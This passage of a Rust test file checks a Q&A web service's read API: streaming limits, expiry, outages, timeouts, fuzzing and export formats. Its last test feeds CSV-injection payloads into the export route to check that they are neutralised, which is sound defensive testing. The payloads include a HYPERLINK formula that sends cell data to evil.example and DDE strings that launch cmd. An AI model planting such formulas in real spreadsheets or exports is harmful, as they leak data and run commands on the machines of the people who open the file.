        held.push(stream_from(&app, *event, &format!("127.0.0.{}", i + 2)).await);
    }
    let (status, retry_after, reason) = refused(&app, live_request(events[3], None, "127.0.0.9")).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(retry_after, query::STREAM_RETRY_AFTER_S.to_string());
    assert_eq!(reason, "too many live streams; poll the list instead");
    // Lists are still served: only streams are budgeted.
    assert_eq!(app.get(&format!("/api/event/{}/questions", events[3])).await.status, StatusCode::OK);
    drop(held.remove(0));
    held.push(stream_from(&app, events[3], "127.0.0.9").await);
    assert_eq!(app.hub.events_streamed(), 3, "one wake-up channel per streamed event");
}

#[tokio::test]
async fn a_live_stream_ends_when_its_event_expires_and_gives_its_place_back() {
    let mut app = app_with(stream_budgets(1, 1, 1)).await;
    let now_s = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    let expiring = app.event_expiring_at(now_s + 2).await;
    let mut body = stream_from(&app, expiring, "127.0.0.2").await;
    assert!(ends_by(&mut body, Instant::now() + Duration::from_secs(5)).await, "the stream outlived its event");
    let ended_ms = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis();
    assert!(ended_ms >= u128::from(now_s + 2) * 1_000, "the stream ended before its event expired");
    assert_eq!(app.hub.events_streamed(), 0, "its wake-up channel went with it");
    // Its place is free again (all three budgets are 1), and the event is gone.
    let next = app.event().await;
    let _next = stream_from(&app, next, "127.0.0.2").await;
    let (status, _, _) = refused(&app, live_request(expiring, None, "127.0.0.3")).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn closing_the_hub_ends_every_stream_promptly_and_refuses_new_ones() {
    let mut app = app().await;
    let (one, two) = (app.event().await, app.event().await);
    let mut streams = vec![
        stream_from(&app, one, "127.0.0.2").await,
        stream_from(&app, one, "127.0.0.3").await,
        stream_from(&app, two, "127.0.0.2").await,
    ];
    let host = app.router.clone().oneshot(live_request(two, Some(SECRET), "127.0.0.4")).await.unwrap();
    streams.push(host.into_body());
    assert_eq!(app.hub.events_streamed(), 2);
    app.hub.close();
    let deadline = Instant::now() + Duration::from_secs(1);
    for body in &mut streams {
        assert!(ends_by(body, deadline).await, "a stream outlived the close by a second");
    }
    assert_eq!(app.hub.events_streamed(), 0);
    let (status, _, _) = refused(&app, live_request(one, None, "127.0.0.5")).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
    // The lists are still served while the process drains.
    assert_eq!(app.get(&format!("/api/event/{one}/questions")).await.status, StatusCode::OK);
}

#[tokio::test]
async fn health_reads_the_store_and_metrics_need_a_recorder() {
    let app = app().await;
    let health = app.get("/healthz").await;
    assert_eq!((health.status, health.json()), (StatusCode::OK, json!({ "status": "ok" })));
    assert_eq!(health.header(header::CACHE_CONTROL), "no-store");
    assert_eq!(app.get("/metrics").await.status, StatusCode::NOT_FOUND);

    let recorder = metrics_exporter_prometheus::PrometheusBuilder::new().build_recorder();
    let handle = recorder.handle();
    let with_metrics =
        query::router(QueryState { metrics: Some(handle), ..bare_state(app.store.clone(), app.store.clone()) });
    // Record through this recorder only, without touching the process-wide one.
    metrics::with_local_recorder(&recorder, || metrics::counter!("votes_total").increment(3));
    let response = with_metrics.oneshot(Request::get("/metrics").body(Body::empty()).unwrap()).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let text = response.into_body().collect().await.unwrap().to_bytes();
    assert!(String::from_utf8_lossy(&text).contains("votes_total 3"), "{}", String::from_utf8_lossy(&text));
}

/// A store that is down: every call fails as a real outage would.
struct Down;

fn down<T>() -> StoreResult<T> {
    Err(StoreError::Unavailable("down".into()))
}

#[async_trait::async_trait]
impl EventStore for Down {
    async fn create_event(&self, _: &EventRow) -> StoreResult<()> {
        down()
    }
    async fn event(&self, _: EventId) -> StoreResult<Option<EventRow>> {
        down()
    }
}

#[async_trait::async_trait]
impl ProjectionReader for Down {
    async fn event_questions(&self, _: EventId) -> StoreResult<Vec<ledger::QuestionStanding>> {
        down()
    }
    async fn question(&self, _: QuestionId) -> StoreResult<Option<ledger::QuestionStanding>> {
        down()
    }
    async fn question_texts(&self, _: &[QuestionId]) -> StoreResult<Vec<ledger::ports::QuestionText>> {
        down()
    }
}

#[tokio::test]
async fn a_store_outage_is_a_503_that_nobody_caches() {
    let (mut app, event) = app_and_event().await;
    app.router = query::router(bare_state(Arc::new(Down), Arc::new(Down)));
    for uri in [
        "/healthz".to_owned(),
        format!("/api/event/{event}"),
        format!("/api/event/{event}/questions"),
        format!("/api/questions/{}", QuestionId::from_u128(1)),
        format!("/api/export/{event}/{SECRET}"),
    ] {
        let reply = app.get(&uri).await;
        assert_eq!(reply.status, StatusCode::SERVICE_UNAVAILABLE, "{uri}");
        assert_eq!(reply.header(header::CACHE_CONTROL), "no-store", "{uri}");
        assert_eq!(reply.json(), json!({ "error": "service unavailable, try again" }), "nothing internal leaks");
    }
}

#[tokio::test]
async fn the_routes_listed_are_the_routes_served() {
    let app = app().await;
    for (method, path) in query::ROUTES.iter().chain(query::LIVE_ROUTES).chain(query::OPS_ROUTES) {
        assert_eq!(*method, "GET");
        // Malformed parameters: a served route answers with its own JSON error (or 200).
        let uri = path.replace('{', "x").replace('}', "");
        let response = app.open(&uri).await;
        let status = response.status();
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        assert!(!bytes.is_empty() || status == StatusCode::OK, "{path} is not served ({status})");
        if status != StatusCode::OK && *path != "/metrics" {
            assert_eq!(status, StatusCode::BAD_REQUEST, "{path}");
        }
    }
}

mod never_panics {
    use super::*;
    use proptest::prelude::*;

    /// A non-empty path segment: a real-looking id, junk, or percent-encoded arbitrary text.
    fn segment() -> impl Strategy<Value = String> {
        prop_oneof![
            Just(EventId::from_u128(1).to_string()),
            "[0-9A-Za-z,]{1,40}",
            "[\\PC]{1,12}".prop_map(|s| s.bytes().map(|b| format!("%{b:02X}")).collect()),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]
        #[test]
        fn any_read_gets_an_answer_below_500(
            route in 0usize..8,
            a in segment(),
            b in segment(),
            query in "[a-z=&%0-9]{0,20}",
        ) {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
            runtime.block_on(async {
                let mut app = app().await;
                let event = app.event().await;
                app.ask(event, "a question to find", None).await;
                let uri = match route {
                    0 => format!("/api/event/{a}"),
                    1 => format!("/api/event/{a}/questions"),
                    2 => format!("/api/event/{a}/questions/{b}"),
                    3 => format!("/api/event/{event}/questions/{b}"),
                    4 => format!("/api/questions/{a}"),
                    5 => format!("/api/export/{a}/{b}?{query}"),
                    6 => format!("/api/export/{event}/{SECRET}?{query}"),
                    _ => format!("/api/live/{a}/{b}"),
                };
                // `get_with` asserts that every refusal is JSON and not cacheable.
                let reply = app.get(&uri).await;
                prop_assert!(reply.status.as_u16() < 500, "{uri}: {}", reply.status);
                Ok(())
            })?;
        }
    }
}

#[tokio::test]
async fn an_expired_event_is_unknown_even_while_its_row_lingers() {
    let mut app = app().await;
    // Expired a second after the epoch.
    let id = app.event_expiring_at(1).await;
    assert_eq!(app.get(&format!("/api/event/{id}")).await.status, StatusCode::NOT_FOUND);
    assert_eq!(app.get(&format!("/api/event/{id}/questions")).await.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_write_to_a_read_route_is_refused_in_json() {
    let app = app().await;
    let request = Request::post(format!("/api/event/{}/questions", EventId::from_u128(1))).body(Body::empty()).unwrap();
    let reply = app.get_with(request).await;
    assert_eq!(reply.status, StatusCode::METHOD_NOT_ALLOWED);
    assert_eq!(reply.json(), json!({ "error": "method not allowed" }));
}

/// A store that never answers in time.
struct Stuck;

#[async_trait::async_trait]
impl EventStore for Stuck {
    async fn create_event(&self, _: &EventRow) -> StoreResult<()> {
        Ok(())
    }
    async fn event(&self, _: EventId) -> StoreResult<Option<EventRow>> {
        tokio::time::sleep(Duration::from_secs(3_600)).await;
        Ok(None)
    }
}

#[tokio::test(start_paused = true)]
async fn a_stuck_store_is_a_503_after_the_timeout() {
    let router = query::router(bare_state(Arc::new(Stuck), Arc::new(Down)));
    let started = tokio::time::Instant::now();
    let response = router.oneshot(Request::get("/healthz").body(Body::empty()).unwrap()).await.unwrap();
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(response.headers()[header::CACHE_CONTROL], "no-store");
    assert_eq!(started.elapsed(), Duration::from_millis(query::REQUEST_TIMEOUT_MS));
    let body = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(serde_json::from_slice::<Value>(&body).unwrap(), json!({ "error": "service unavailable" }));
}

/// OWASP's CSV-injection rule through the export route: a text or name that starts like a
/// spreadsheet formula (`=`, `+`, `-`, `@`, tab, carriage return) leaves the CSV and the
/// Markdown with a leading `'`; the JSON keeps it as asked. The records go in as stored
/// records, so the tab and carriage return the ask route trims still reach the export.
#[tokio::test]
async fn exports_neutralise_cells_that_start_like_a_formula() {
    let (mut app, event) = app_and_event().await;
    let cases = [
        ('=', "=HYPERLINK(\"https://evil.example/?\"&A1,\"see slides\")"),
        ('+', "+1+cmd|' /C calc'!A0"),
        ('-', "-2+3 is it five?"),
        ('@', "@SUM(1+1)*cmd|' /C calc'!A0"),
        ('\t', "\t=1+1 behind a tab"),
        ('\r', "\r=1+1 behind a carriage return"),
    ];
    let mut asked = Vec::new();
    for (start, text) in cases {
        let name = format!("{start}Mallory");
        let qid = app.ask(event, text, Some(&name)).await;
        asked.push((start, qid, text, name));
    }
    let harmless = app.ask(event, "What comes next?", Some("Ada")).await;
    let base = format!("/api/export/{event}/{SECRET}");

    let csv_export = app.get(&format!("{base}?format=csv")).await;
    assert_eq!(csv_export.status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(&csv_export.bytes[..]);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), cases.len() + 1);
    for (row, (start, qid, text, name)) in rows.iter().zip(&asked) {
        assert_eq!(&row[0], qid.to_string(), "{start:?}: rows in asking order");
        assert_eq!(&row[1], format!("'{text}"), "{start:?}: the text in the CSV");
        assert_eq!(&row[2], format!("'{name}"), "{start:?}: the name in the CSV");
    }
    assert_eq!(&rows[cases.len()][0], harmless.to_string());
    assert_eq!(&rows[cases.len()][1], "What comes next?");
    assert_eq!(&rows[cases.len()][2], "Ada");
    let raw = String::from_utf8(csv_export.bytes.to_vec()).unwrap();
    assert!(
        raw.contains(r#","'=HYPERLINK(""https://evil.example/?""&A1,""see slides"")","#),
        "the cell is quoted as CSV requires: {raw}"
    );

    let md = String::from_utf8(app.get(&format!("{base}?format=md")).await.bytes.to_vec()).unwrap();
    let lines: Vec<&str> = md.lines().collect();
    assert_eq!(lines.len(), 2 + cases.len() + 1, "{md}");
    for (line, (start, _, _, name)) in lines[2..].iter().zip(&asked) {
        let cells: Vec<&str> = line.split(" | ").collect();
        assert!(cells[1].starts_with('\''), "{start:?}: the text in the Markdown: {line:?}");
        // A table cell holds one line, so the Markdown drops the carriage return.
        let expected = format!("'{name}").replace('\r', "");
        assert_eq!(cells[2], expected, "{start:?}: the name in the Markdown");
    }
    assert!(md.contains("| What comes next? | Ada |"), "{md}");

    let json_rows = app.get(&base).await.json();
    for (row, (start, _, text, name)) in json_rows.as_array().unwrap().iter().zip(&asked) {
        assert_eq!(row["text"], *text, "{start:?}: the JSON keeps the text as asked");
        assert_eq!(row["who"], name.as_str(), "{start:?}: the JSON keeps the name");
    }
}
